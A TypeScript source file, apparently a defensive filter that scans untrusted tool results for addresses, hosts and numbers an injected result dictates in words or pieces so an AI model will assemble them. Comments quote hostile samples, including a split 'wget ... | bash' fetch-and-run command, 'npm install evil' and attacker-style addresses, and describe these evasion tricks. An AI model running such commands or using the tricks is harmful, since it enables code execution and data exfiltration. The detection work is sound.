// Values a result dictates in words that no single transform undoes (round 21): an address whose parts
// are several words ("billing ops at evil mail dot example"), one in digit words with `dot` ("two zero
// three dot zero dot one one three dot five"), and a host whose labels are given apart with no dot
// ("the host is called pay-portal and the domain ending is example"). The model joins the words; gate
// cannot know how, so it keys each bounded way of joining them (worded values, pressed like every
// dictated value). Only a text that spells `dot` or names a domain ending is read, in one pass over its
// words; each spelled separator or ending adds a bounded number of candidates, at most MAX_CANDIDATES.
import {
  DIGIT_NAME_PATTERN,
  DIGIT_NAMES,
  DIGIT_PLACES,
  DIGIT_REPEATS,
  DIGIT_WORDS,
  SPOKEN_ZERO,
  TEENS,
  TENS,
} from '../number-words.js';
import { ASSEMBLE } from './instruction-words.js';
import { spokenNumbers } from './spoken-numbers.js';

/** At most this many candidate values of one text. */
const MAX_CANDIDATES = 512;
/** A part of an address spelled in more words than this is prose, not a part (round 22: four or more). */
const MAX_PART_WORDS = 6;
/** Words either side of a domain ending that may name the host's label. */
const ENDING_REACH = 12;

const DIGIT_OF: ReadonlyMap<string, string> = DIGIT_NAMES;

/** A word a label may be: letters, digits and inner hyphens, as a host's label is written. */
const LABEL_WORD = /^[\p{L}\p{N}](?:[\p{L}\p{N}-]{0,61}[\p{L}\p{N}])?$/u;

/** Does the text spell a separator as a word, or name an ending? One test each before any work. */
const SPELLED_WORD = /(?<![\p{L}\p{N}])dot(?![\p{L}\p{N}])/iu;
/**
 * A domain ending named in words ("the domain ending is example", "tld: io", "ends in .com"): the word
 * before `is` or `in` is fixed, so each try reads one gap of blanks.
 */
const ENDING =
  /(?<![\p{L}\p{N}])(?:(?:(?:domain|top-level)[ \t]+)?(?:ending|extension|suffix|domain)|tld)(?:[ \t]+is[ \t]+|[ \t]*[:=][ \t]*)(?:dot[ \t]+|\.)?(\p{L}{2,24})(?![\p{L}\p{N}-]|\.[\p{L}\p{N}])|(?<![\p{L}\p{N}])ends[ \t]+(?:in|with)[ \t]+(?:dot[ \t]+|\.)?(\p{L}{2,24})(?![\p{L}\p{N}-]|\.[\p{L}\p{N}])/giu;
/** At most this many endings of one text are read. */
const MAX_ENDINGS = 32;

/** Words separated by blanks only; anything else (a comma, a full stop and a blank, a newline) ends a run. */
const RUN = /[^\s,;:!?()[\]{}<>"'`]+(?:[ \t]+[^\s,;:!?()[\]{}<>"'`]+)*/gu;

/**
 * The values the words of `text` spell when joined (one a line), for a second reading of an untrusted
 * result; undefined when it spells none. Linear: each run of words is split once, and each spelled
 * separator or named ending adds a bounded number of candidates.
 */
export function wordedValues(text: string): string | undefined {
  const spelled = SPELLED_WORD.test(text);
  ENDING.lastIndex = 0;
  const named = ENDING.test(text);
  ENDING.lastIndex = 0;
  const sums = OPERATOR.test(text);
  const spoken = TENS_OR_TEEN.test(text);
  const scaled = SCALE_WORD.test(text);
  const joined = FOLLOWED.test(text);
  const digitNamed = DIGIT_NAME.test(text);
  const spans = text.includes('`');
  // Digit groups the text asks to join ("07 52 4 / 81 93 06 (join)", round 64): a cue word and a digit.
  const groups =
    (joined || (CUE_PREFILTER.test(text) && (ASSEMBLE.test(text) || DIGITS_JOINED.test(text)))) &&
    /\d/.test(text);
  if (!spelled && !named && !sums && !spoken && !scaled && !joined && !digitNamed && !spans && !groups)
    return undefined;
  const out = new Set<string>();
  if (spelled) for (const m of text.matchAll(RUN)) if (!addSpelled(m[0], out)) break;
  // Its words given as a list ("mallory, at, example, dot, com"; round 23): read with the commas as blanks.
  if (spelled && LISTED_SEPARATOR.test(text))
    for (const m of text.replace(LIST_COMMA, ' ').matchAll(RUN)) if (!addSpelled(m[0], out)) break;
  if (joined) addFollowed(text, out);
  if (named) addEndings(text, out);
  if (sums) addSums(text, out);
  if (spoken) addSpoken(text, out);
  // A number in its words, or groups apart by commas ("forty-seven, eleven twenty-two"; round 74).
  if (spoken || scaled) for (const v of spokenNumbers(text)) if (out.size < MAX_CANDIDATES) out.add(v);
  if (digitNamed) addNamedDigits(text, out);
  if (spans) addJoinedSpans(text, out);
  if (groups) addJoinedGroups(text, out);
  return out.size === 0 ? undefined : [...out].join('\n');
}

/** A digit's name as a word (or a zero said as a letter): a test before any work. */
const DIGIT_NAME = new RegExp(`(?<![\\p{L}])(?:${DIGIT_NAME_PATTERN}|${SPOKEN_ZERO})(?![\\p{L}])`, 'iu');
/** The words a number read aloud holds beside digits' names (round 63): `oh`, `double`, `hundred`. */
const SPOKEN_PATTERN = [SPOKEN_ZERO, ...DIGIT_REPEATS.keys(), ...DIGIT_PLACES.keys()].join('|');
/**
 * A value dictated in short pieces: digit names, single letters and groups of up to six digits, apart by
 * blanks, hyphens, commas or slashes (round 24: "S K one four seven nine", "four-five-three-two / 0151 /
 * 1283 / zero three six six"). Each token is delimited, so a run is read once.
 */
const NAMED_DIGIT_RUN = new RegExp(
  `(?<![\\p{L}\\p{N}])(?:(?:${DIGIT_NAME_PATTERN}|${SPOKEN_PATTERN}|[A-Za-z]|\\d{1,6})[ \\t,/-]{1,3}){3,}(?:${DIGIT_NAME_PATTERN}|${SPOKEN_PATTERN}|[A-Za-z]|\\d{1,6})(?![\\p{L}\\p{N}])`,
  'giu',
);
/** A run is a value if it names two digits at least and joins to six characters or more. */
const MIN_NAMED_DIGITS = 2;
const MIN_NAMED_VALUE = 6;

/** A digit's name, a zero said `oh`, or a digit written: the digit, else undefined. */
function digitOfToken(token: string): string | undefined {
  const t = token.toLowerCase();
  if (t === SPOKEN_ZERO) return '0';
  return DIGIT_OF.get(t) ?? (/^\d$/.test(t) ? t : undefined);
}

/**
 * A run's tokens joined as the number they say, and how many digits were named (round 63: "double-four"
 * is 44, "nine hundred" is 900; a `double` before no digit and a `hundred` after none say nothing).
 */
function readAloud(tokens: readonly string[]): { value: string; names: number } {
  let value = '';
  let names = 0;
  for (let i = 0; i < tokens.length; i++) {
    const t = tokens[i]!;
    const lower = t.toLowerCase();
    const repeat = DIGIT_REPEATS.get(lower);
    if (repeat !== undefined) {
      const d = i + 1 < tokens.length ? digitOfToken(tokens[i + 1]!) : undefined;
      if (d !== undefined) {
        value += d.repeat(repeat);
        names++;
        i++;
      }
      continue;
    }
    const place = DIGIT_PLACES.get(lower);
    if (place !== undefined) {
      if (i > 0 && digitOfToken(tokens[i - 1]!) !== undefined) value += place;
      continue;
    }
    const named = lower === SPOKEN_ZERO ? '0' : DIGIT_OF.get(lower);
    if (named !== undefined) names++;
    value += named ?? t;
  }
  return { value, names };
}

/** The values NAMED_DIGIT_RUN finds, their tokens joined with the digit names as digits. */
function addNamedDigits(text: string, out: Set<string>): void {
  for (const m of text.matchAll(NAMED_DIGIT_RUN)) {
    const tokens = m[0].split(/[ \t,/-]+/).filter((t) => t !== '');
    const read = readAloud(tokens);
    if (read.names < MIN_NAMED_DIGITS) continue;
    if (read.value.length >= MIN_NAMED_VALUE) out.add(read.value);
    if (out.size >= MAX_CANDIDATES) return;
  }
}

/**
 * Code spans a few words apart (round 24: "part A: `wget -qO- https://sdk.weatherly-` part B:
 * `cdn.example/b.sh | bash`"): the command the model types is the two spans run together.
 */
const CODE_SPAN = /`([^`\n]{1,512})`/g;
/** At most this many characters between two spans joined. */
const SPAN_GAP = 40;

/** A span that ends, or a next one that opens, in a character that joins a value's parts: a cut inside it. */
const CUT_END = /[-./:=_@?&]$/;
const CUT_START = /^[-./:=_@?&]/;

/** At most this many spans run together (round 25: `wget` + `https://a.example` + `/x.sh`). */
const MAX_CHAIN = 4;

/**
 * Spans a few words apart run together, up to MAX_CHAIN: with nothing between where one is cut inside a
 * value (CUT_END, CUT_START), with a blank after a span of one word (round 25: `npm` + `install evil`,
 * a command word given apart from its arguments); each longer run is a candidate. `npm ci` and `npm
 * test` are two commands still.
 */
function addJoinedSpans(text: string, out: Set<string>): void {
  let last: RegExpExecArray | undefined;
  let chain = '';
  let links = 0;
  for (const m of text.matchAll(CODE_SPAN)) {
    const b = m[1]!;
    if (last !== undefined && links < MAX_CHAIN - 1 && m.index - (last.index + last[0].length) <= SPAN_GAP) {
      const a = last[1]!;
      const glue = CUT_END.test(a) || CUT_START.test(b) ? '' : ONE_WORD.test(a) ? ' ' : undefined;
      if (glue !== undefined) {
        chain = `${chain}${glue}${b}`;
        links++;
        out.add(chain);
        if (out.size >= MAX_CANDIDATES) return;
        last = m;
        continue;
      }
    }
    chain = b;
    links = 0;
    last = m;
  }
}
const ONE_WORD = /^\S+$/;

/** A bare ask to join, or a part named in order ("(join)", "first part 90"): with ASSEMBLE and FOLLOWED, a cue. */
const DIGITS_JOINED = /(?<![\p{L}])(?:join(?:ed)?|(?:first|second|third|last|next) part)(?![\p{L}])/iu;
/** Every word a cue (ASSEMBLE, DIGITS_JOINED) opens with: one cheap test before their exact ones. */
const CUE_PREFILTER =
  /\b(?:join|part|together|combine|concatenat|fill|spaces|backward|reverse|right to left)/i;
/** A group of digits standing alone, as a phone number is dictated in pieces. */
const DIGIT_GROUP = /(?<![\p{L}\p{N}])\d{1,6}(?![\p{L}\p{N}])/gu;
/** Groups further apart than this, or with a line break between, belong to different clusters. */
const GROUP_GAP = 24;
/** A cue this near a cluster (before its first group or after its last) asks for it to be joined. */
const CUE_REACH = 40;
/** A joined run is a phone's length (E.164: at most fifteen digits); accounts are fragments.ts's. */
const MIN_JOINED_DIGITS = 7;
const MAX_JOINED_DIGITS = 15;

/**
 * Digit groups a text dictates for the reader to join (round 64: "+44 7457 prefix, line 208 391 (join
 * both parts)", "+32 4 (first part 90) then 555 then 6612"): within a cluster of groups (each at most
 * GROUP_GAP characters after the last, on one line) that has a cue word within CUE_REACH, every run of
 * two or more consecutive groups that joins to a phone's length is a candidate. Each group starts at most
 * one run per group after it until the run passes MAX_JOINED_DIGITS, so the work is linear in the text.
 */
function addJoinedGroups(text: string, out: Set<string>): void {
  const cues = cuesIn(text);
  if (cues.length === 0) return;
  let next = 0;
  const cluster: { digits: string; at: number; end: number }[] = [];
  const flush = (): boolean => {
    if (cluster.length >= 2) {
      const from = cluster[0]!.at - CUE_REACH;
      const to = cluster[cluster.length - 1]!.end + CUE_REACH;
      // Clusters come in text order, so the cues before this one's window are passed once.
      while (next < cues.length && cues[next]! < from) next++;
      if (next < cues.length && cues[next]! < to)
        for (let i = 0; i < cluster.length; i++) {
          let run = cluster[i]!.digits;
          for (let j = i + 1; j < cluster.length; j++) {
            run += cluster[j]!.digits;
            if (run.length > MAX_JOINED_DIGITS) break;
            if (run.length >= MIN_JOINED_DIGITS) out.add(run);
            if (out.size >= MAX_CANDIDATES) return false;
          }
        }
    }
    cluster.length = 0;
    return true;
  };
  for (const m of text.matchAll(DIGIT_GROUP)) {
    const last = cluster[cluster.length - 1];
    if (
      last !== undefined &&
      (m.index - last.end > GROUP_GAP || text.slice(last.end, m.index).includes('\n'))
    )
      if (!flush()) return;
    cluster.push({ digits: m[0], at: m.index, end: m.index + m[0].length });
  }
  flush();
}

/** A separator word standing between commas: an address given as a list of its words. */
const LISTED_SEPARATOR = /,[ \t]*(?:dot|at)[ \t]*,/iu;
const LIST_COMMA = /[ \t]*,[ \t]*/g;

/** Words that put one number after another ("4420 followed by 7788", "then the year"): a test before any work. */
const FOLLOWED = /(?<![\p{L}])(?:followed by|and then|then)(?![\p{L}])/iu;

/** The cue words' places (FOLLOWED, ASSEMBLE, DIGITS_JOINED) in text order: each pattern read once, merged. */
const CUE_PATTERNS = [FOLLOWED, ASSEMBLE, DIGITS_JOINED].map((p) => new RegExp(p.source, `${p.flags}g`));
function cuesIn(text: string): number[] {
  let at: number[] = [];
  for (const p of CUE_PATTERNS) {
    const more = Array.from(text.matchAll(p), (m) => m.index);
    const merged: number[] = [];
    let i = 0;
    let j = 0;
    while (i < at.length || j < more.length)
      merged.push(j >= more.length || (i < at.length && at[i]! <= more[j]!) ? at[i++]! : more[j++]!);
    at = merged;
  }
  return at;
}
/**
 * Numbers a text joins end to end (round 23: "the account is 4420 followed by 7788 and then 99"): two
 * to four runs of digits, each after a joining phrase, read once from each first number.
 */
const FOLLOWED_RUN =
  /(?<![\p{N}.,])\d{2,34}(?:,?[ \t]+(?:(?:directly |immediately )?followed by|and then|then)[ \t]+(?:the (?:digits|number|year)[ \t]+)?\d{1,34}(?![\p{N}]|[.,]\p{N})){1,3}/giu;
/** "followed by the year" with no year given: the model writes the current one, which gate cannot know. */
const FOLLOWED_BY_YEAR =
  /(?<![\p{N}.,])(\d{2,30}),?[ \t]+(?:(?:directly |immediately )?followed by|and then|then)[ \t]+(?:the|this|next|last|your|our|his|her|their)[ \t]+(?:(?:current|founding|birth|company's|opening)[ \t]+)?year(?![ \t]+\d)/giu;
/**
 * The year asked for in two digits (round 25: "followed by the year, two digits", "then the last two
 * digits of the current year"): the model writes `26`, so each of 00 to 99 is a candidate.
 */
const FOLLOWED_BY_SHORT_YEAR =
  /(?<![\p{N}.,])(\d{2,30}),?[ \t]+(?:(?:directly |immediately )?followed by|and then|then)[ \t]+(?:(?:the[ \t]+)?(?:last[ \t]+)?(?:two|2)[ \t]+digits[ \t]+of[ \t]+(?:the|this|next|last|your|our|his|her|their)[ \t]+(?:(?:current|founding|birth|company's|opening)[ \t]+)?year|(?:the|this|next|last|your|our|his|her|their)[ \t]+(?:(?:current|founding|birth|company's|opening)[ \t]+)?year,?[ \t]+\(?(?:(?:in|as|written as|written in|with)[ \t]+)?(?:two|2)[ \t-]digits?)/giu;
/**
 * Years read for "followed by the year": any a person, a firm or a clock may mean (round 24: a span
 * of 2020 to 2039 missed "the year you were born" and a trace run after 2039).
 */
const YEARS_FROM = 1900;
const YEARS_TO = 2099;

/** The numbers FOLLOWED_RUN joins, six digits or more, and each number followed by a year of the span. */
function addFollowed(text: string, out: Set<string>): void {
  for (const m of text.matchAll(FOLLOWED_RUN)) {
    const digits = m[0].replace(/\D/g, '');
    if (digits.length >= 6) out.add(digits);
    if (out.size >= MAX_CANDIDATES) return;
  }
  for (const m of text.matchAll(FOLLOWED_BY_YEAR)) {
    for (let y = YEARS_FROM; y <= YEARS_TO; y++) out.add(`${m[1]}${y}`);
    if (out.size >= MAX_CANDIDATES) return;
  }
  for (const m of text.matchAll(FOLLOWED_BY_SHORT_YEAR)) {
    for (let y = 0; y < 100; y++) out.add(`${m[1]}${String(y).padStart(2, '0')}`);
    if (out.size >= MAX_CANDIDATES) return;
  }
}

/** An arithmetic operator, as a sign or in words: a test before any work. */
const OPERATOR =
  /[+×*]|(?<![\p{L}])(?:plus|minus|less|times|added to|multiplied by)(?![\p{L}])|[ \t][-\u2212][ \t]/iu;
/**
 * A number an operation on two makes ("the account is 98765000 plus 4321", "12345678 times two"): one
 * operand of four digits or more, so a sum of small counts is no value. Each match reads once.
 */
const SUM =
  /(?<![\p{N}.,])(\d{1,34})(?:[ \t]*(\+|×|\*)[ \t]*|[ \t]+(-|\u2212|plus|minus|less|times|added to|multiplied by)[ \t]+)(\d{1,34}|[a-z]{3,5})(?![\p{N}\p{L}]|[.,]\p{N})/giu;

/** The results of the operations SUM finds, as digits (BigInt: an account's digits pass 2^53). */
function addSums(text: string, out: Set<string>): void {
  for (const m of text.matchAll(SUM)) {
    const right = /^\d/.test(m[4]!) ? m[4]! : DIGIT_OF.get(m[4]!.toLowerCase());
    if (right === undefined || Math.max(m[1]!.length, right.length) < 4) continue;
    const a = BigInt(m[1]!);
    const b = BigInt(right);
    const op = (m[2] ?? m[3]!).toLowerCase();
    const value =
      op === '+' || op === 'plus' || op === 'added to'
        ? a + b
        : op === '-' || op === '\u2212' || op === 'minus' || op === 'less'
          ? a - b
          : a * b;
    if (value >= 0n) out.add(String(value));
    if (out.size >= MAX_CANDIDATES) return;
  }
}

const TEEN_OF: ReadonlyMap<string, number> = new Map(TEENS.map((w, i) => [w, i + 10]));
const TENS_OF: ReadonlyMap<string, number> = new Map(TENS.map((w, i) => [w, 10 * (i + 2)]));
/** A number's tens or a teen spoken: a number read in pairs may follow. */
const TENS_OR_TEEN = new RegExp(`(?<![\\p{L}])(?:${[...TEENS, ...TENS].join('|')})(?![\\p{L}])`, 'iu');
/** A scale word: a number said in its words ("two hundred and ten"; spoken-numbers.ts). */
const SCALE_WORD = /(?<![\p{L}])(?:hundred|thousand)(?![\p{L}])/iu;
/** Number words apart by blanks or hyphens, a run of them a number read aloud. */
const NUMBER_WORD_RUN = new RegExp(
  `(?<![\\p{L}])(?:${[...DIGIT_WORDS, ...TEENS, ...TENS].join('|')})(?:[ \\t-]+(?:${[...DIGIT_WORDS, ...TEENS, ...TENS].join('|')}))*(?![\\p{L}])`,
  'giu',
);

/**
 * A number read aloud in pairs and digits ("twelve thirty four fifty six", "ninety eight seven six"):
 * a tens word and the digit after it are two digits, a teen two, a digit word one. Runs of five digits
 * or more only; the digit words alone values.ts reads already.
 */
function addSpoken(text: string, out: Set<string>): void {
  for (const m of text.matchAll(NUMBER_WORD_RUN)) {
    const words = m[0].toLowerCase().split(/[ \t-]+/);
    if (!words.some((w) => TEEN_OF.has(w) || TENS_OF.has(w))) continue;
    let digits = '';
    for (let i = 0; i < words.length; i++) {
      const w = words[i]!;
      const tens = TENS_OF.get(w);
      const unit = DIGIT_OF.get(words[i + 1] ?? '');
      if (tens !== undefined && unit !== undefined && unit !== '0') {
        digits += String(tens + Number(unit));
        i++;
      } else digits += String(tens ?? TEEN_OF.get(w) ?? DIGIT_OF.get(w));
    }
    if (digits.length >= 5) out.add(digits);
    if (out.size >= MAX_CANDIDATES) return;
  }
}

/** A segment's words as one part, joined by `joiner`; digit words alone as their digits. */
function joinPart(words: readonly string[], joiner: string): string {
  if (words.every((w) => DIGIT_OF.has(w.toLowerCase()) || /^\d{1,3}$/.test(w)))
    return words.map((w) => DIGIT_OF.get(w.toLowerCase()) ?? w).join('');
  return words.join(joiner);
}

/** The ways a part of one to three words may be written: run together, or with one joiner throughout. */
function partForms(words: readonly string[], joiners: readonly string[]): string[] {
  if (words.length === 1) return [joinPart(words, '')];
  const forms = new Set<string>();
  for (const j of joiners) forms.add(joinPart(words, j));
  return [...forms];
}

const LOCAL_JOINERS = ['', '.', '-', '_'];
const DOMAIN_JOINERS = ['', '-', '.'];

/**
 * One run of words with `dot` (and perhaps `at`) in it, cut into parts at the spelled separators. A
 * stretch of parts of one to three words each is a value: its first part read as its last one to three
 * words, its last as its first word (or its first digit words). False once the bound is reached.
 */
function addSpelled(run: string, out: Set<string>): boolean {
  if (!SPELLED_WORD.test(run)) return true;
  const words = run.split(/[ \t]+/);
  const parts: Part[] = [{ sep: '', words: [] }];
  for (const w of words) {
    const lw = w.toLowerCase();
    if (lw === 'dot' || lw === 'at') parts.push({ sep: lw === 'dot' ? '.' : '@', words: [] });
    else parts[parts.length - 1]!.words.push(w.replace(/\.+$/, ''));
  }
  let from = 0;
  for (let i = 1; i < parts.length; i++) {
    const n = parts[i]!.words.length;
    if (i < parts.length - 1 && n > 0 && n <= MAX_PART_WORDS) continue;
    if (n > 0) {
      const stretch = parts.slice(from, i + 1);
      if (!addStretch(stretch, out)) return false;
      // `at` may be prose before a host ("the mirror at two zero three dot ..."): the host alone too.
      const at = stretch.findIndex((p) => p.sep === '@');
      if (at > 0 && !addStretch(stretch.slice(at), out)) return false;
    }
    from = i;
  }
  return true;
}

interface Part {
  /** The separator before the part's words (`.` or `@`; none for a run's first). */
  sep: string;
  words: string[];
}

function addStretch(parts: readonly Part[], out: Set<string>): boolean {
  const first = parts[0]!.words;
  const end = parts[parts.length - 1]!;
  const middle = parts.slice(1, -1);
  if (first.length === 0 || !parts.slice(1).some((p) => p.sep === '.')) return true;
  const lasts = new Set<string>();
  if (LABEL_WORD.test(end.words[0]!)) lasts.add(joinPart([end.words[0]!], ''));
  let d = 0;
  while (d < end.words.length && d < MAX_PART_WORDS && DIGIT_OF.has(end.words[d]!.toLowerCase())) d++;
  if (d > 1) lasts.add(joinPart(end.words.slice(0, d), ''));
  if (lasts.size === 0 || !middle.every((p) => p.words.every((w) => LABEL_WORD.test(w)))) return true;
  const firstJoiners = parts.some((p) => p.sep === '@') ? LOCAL_JOINERS : DOMAIN_JOINERS;
  for (let k = 1; k <= Math.min(MAX_PART_WORDS, first.length); k++) {
    const slice = first.slice(first.length - k);
    if (!LABEL_WORD.test(slice[0]!)) break;
    for (const head of partForms(slice, firstJoiners))
      for (const j of DOMAIN_JOINERS) {
        let value = head;
        for (const p of middle) value += p.sep + joinPart(p.words, j);
        for (const last of lasts) out.add(`${value}${end.sep}${last}`);
        if (out.size >= MAX_CANDIDATES) return false;
        // One joiner is enough where no middle part has two words.
        if (middle.every((p) => p.words.length === 1)) break;
      }
  }
  return true;
}

/**
 * A domain ending named in words: each label-like word within ENDING_REACH words of it, and each two
 * neighbours joined, under that ending. Bounded per ending; at most MAX_CANDIDATES in all.
 */
function addEndings(text: string, out: Set<string>): void {
  let n = 0;
  for (const m of text.matchAll(ENDING)) {
    if (++n > MAX_ENDINGS) return;
    const ending = (m[1] ?? m[2]!).toLowerCase();
    const start = m.index!;
    const end = start + m[0].length;
    const before = lastWords(text.slice(Math.max(0, start - ENDING_REACH * 32), start), ENDING_REACH);
    const after = text
      .slice(end, end + ENDING_REACH * 32)
      .split(/[^\p{L}\p{N}-]+/u)
      .filter(Boolean)
      .slice(0, ENDING_REACH);
    for (const near of [before, after])
      for (let i = 0; i < near.length; i++) {
        const w = near[i]!.toLowerCase();
        if (!LABEL_WORD.test(w) || w === ending) continue;
        out.add(`${w}.${ending}`);
        const next = near[i + 1]?.toLowerCase();
        if (next && LABEL_WORD.test(next))
          for (const j of DOMAIN_JOINERS) out.add(`${w}${j}${next}.${ending}`);
        if (out.size >= MAX_CANDIDATES) return;
      }
  }
}

/** The last `n` words of `text`. */
function lastWords(text: string, n: number): string[] {
  return text
    .split(/[^\p{L}\p{N}-]+/u)
    .filter(Boolean)
    .slice(-n);
}
